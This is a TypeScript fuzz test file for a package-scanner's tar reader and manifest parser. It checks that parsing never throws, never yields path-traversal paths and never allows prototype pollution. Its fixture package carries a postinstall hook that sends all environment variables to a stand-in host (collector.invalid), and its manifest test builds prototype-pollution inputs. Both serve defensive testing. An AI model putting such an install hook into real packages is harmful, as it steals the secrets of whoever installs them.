// Property-based tests over the tar reader and the manifest parser: whatever the bytes, unpacking
// returns a result (files and findings) in bounded time and never throws an untyped exception.
import zlib from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { unpackTarball } from '../src/unpack/tarball.js';
import { parseManifest } from '../src/unpack/manifest.js';
import { analyzeTarball } from '../src/scan.js';
import { packTarball } from './helpers/registry.js';

const RUNS = Number(process.env.TOLLGATE_FUZZ_RUNS ?? 150);

/** Flip, truncate or splice bytes of a valid tarball: most of the interesting inputs are near-valid. */
const mutation = fc.record({
  flips: fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 12 }),
  cut: fc.option(fc.nat()),
  gz: fc.boolean(),
});

describe('fuzz: tar reader', () => {
  test('random bytes never throw', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 4096 }), async (bytes) => {
        const res = await unpackTarball(Buffer.from(bytes));
        expect(res.files).toBeInstanceOf(Map);
        expect(Array.isArray(res.findings)).toBe(true);
      }),
      { numRuns: RUNS },
    );
  });

  test('mutated valid tarballs never throw, never yield escaping paths, and still get a verdict', async () => {
    const base = zlib.gunzipSync(
      await packTarball({
        'package.json': JSON.stringify({ name: 'fz', version: '1.0.0', scripts: { postinstall: 'node i.js' } }),
        'i.js': "require('https').get('https://collector.invalid/?e=' + JSON.stringify(process.env));",
        'lib/a.js': 'module.exports = 1;',
      }),
    );
    await fc.assert(
      fc.asyncProperty(mutation, async ({ flips, cut, gz }) => {
        const raw = Buffer.from(base);
        for (const [pos, val] of flips) raw[pos % raw.length] = val;
        const trimmed = cut === null ? raw : raw.subarray(0, cut % (raw.length + 1));
        const input = gz ? zlib.gzipSync(trimmed) : trimmed;
        const res = await unpackTarball(input);
        for (const f of res.findings) expect(typeof f.message).toBe('string');
        for (const p of res.files.keys()) {
          expect(p.startsWith('/')).toBe(false);
          expect(p.split('/')).not.toContain('..');
        }
        // The whole pipeline copes too.
        const report = await analyzeTarball({ data: input, spec: 'fuzz.tgz' });
        expect(['malicious', 'suspicious', 'clean', 'error']).toContain(report.verdict);
      }),
      { numRuns: RUNS },
    );
  });
});

describe('fuzz: manifest parser', () => {
  test('any JSON value or text gives a manifest or an error, and never pollutes prototypes', () => {
    fc.assert(
      fc.property(fc.oneof(fc.json(), fc.string(), fc.jsonValue().map((v) => JSON.stringify({ __proto__: v, constructor: { prototype: { polluted: v } }, scripts: v }))), (text) => {
        const res = parseManifest(Buffer.from(text));
        expect(res.manifest !== undefined || typeof res.error === 'string').toBe(true);
        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
        if (res.manifest?.scripts) for (const v of Object.values(res.manifest.scripts)) expect(typeof v).toBe('string');
      }),
      { numRuns: RUNS * 3 },
    );
  });
});
